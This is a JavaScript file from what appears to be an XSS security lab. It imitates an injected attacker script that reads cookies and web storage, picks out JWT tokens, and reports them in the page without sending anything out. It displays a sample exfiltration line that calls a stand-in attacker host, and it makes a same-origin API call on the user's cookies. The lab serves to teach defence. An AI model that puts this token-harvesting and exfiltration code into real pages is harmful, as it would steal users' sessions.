// THE "INJECTED SCRIPT" of the XSS lab: it stands for an attacker's script
// that got into a page of this origin. It reads what any page script can
// reach (document.cookie, localStorage, sessionStorage) and reports it in the
// page. It sends nothing away: where it finds a token it only shows the
// request an attacker would make. Self-contained on purpose: an attacker's
// script brings no help from the site's modules.
const JWT = /^eyJ[\w-]*\.[\w-]+\.[\w-]*$/;

function readCookies() {
  if (!document.cookie) return [];
  return document.cookie.split(/;\s*/).map((pair) => {
    const i = pair.indexOf("=");
    return { name: pair.slice(0, i), value: decodeURIComponent(pair.slice(i + 1)) };
  });
}

function readStorage() {
  const stored = [];
  for (const [where, storage] of [
    ["localStorage", window.localStorage],
    ["sessionStorage", window.sessionStorage],
  ]) {
    try {
      for (let i = 0; i < storage.length; i++) {
        const name = storage.key(i);
        stored.push({ where, name, value: storage.getItem(name) });
      }
    } catch {
      /* storage disabled */
    }
  }
  return stored;
}

function tokensIn(value) {
  return (String(value).match(/eyJ[\w-]*\.[\w-]+\.[\w-]*/g) || []).filter((t) => JWT.test(t));
}

async function report(out) {
  const cookies = readCookies();
  const stored = readStorage();
  const tokens = [
    ...cookies.flatMap((c) => tokensIn(c.value).map((token) => ({ from: `cookie ${c.name}`, token }))),
    ...stored.flatMap((s) => tokensIn(s.value).map((token) => ({ from: `${s.where} ${s.name}`, token }))),
  ];

  out.textContent = "";
  out.hidden = false;
  out.dataset.cookieNames = cookies.map((c) => c.name).sort().join(",");
  out.dataset.storageKeys = stored.map((s) => `${s.where}[${s.name}]`).join(",");
  out.dataset.tokensFound = String(tokens.length);

  const line = (text, cls) => {
    const p = document.createElement("p");
    if (cls) p.className = cls;
    p.textContent = text;
    out.appendChild(p);
  };
  line(`document.cookie: ${cookies.length ? cookies.map((c) => c.name).join(", ") : "(empty)"}`);
  line(`Web storage: ${stored.length ? stored.map((s) => `${s.where}[${s.name}]`).join(", ") : "(empty)"}`);
  if (!tokens.length) {
    line("Tokens found: none. No session id, access token or refresh token is readable by script here.", "verdict verdict-refused");
  } else {
    for (const t of tokens) {
      line(`TOKEN FOUND in ${t.from}: ${t.token.slice(0, 24)}… (${t.token.length} characters)`, "verdict verdict-accepted");
      const exfil = document.createElement("pre");
      exfil.className = "exfil";
      exfil.textContent =
        '// what an attacker would run next (not sent):\nnew Image().src = "https://attacker.invalid/collect?t=" + encodeURIComponent(token);';
      out.appendChild(exfil);
    }
    line("With it, the attacker calls the API from anywhere (Authorization: Bearer …) until it expires, whatever this page does next.");
  }
  // What it can do without taking anything: act as the user from inside the page
  // (the API's address is on the page, as an attacker's script would find it).
  try {
    const r = await fetch(document.body.dataset.urlMe, { credentials: "same-origin" });
    line(
      `It can still call the API as you from inside this page: GET ${document.body.dataset.urlMe} answered ${r.status}` +
        (r.ok ? " (it rides on the cookies it cannot read)." : ".")
    );
  } catch {
    /* offline */
  }
}

const out = document.getElementById("injected-output");
if (out) report(out);
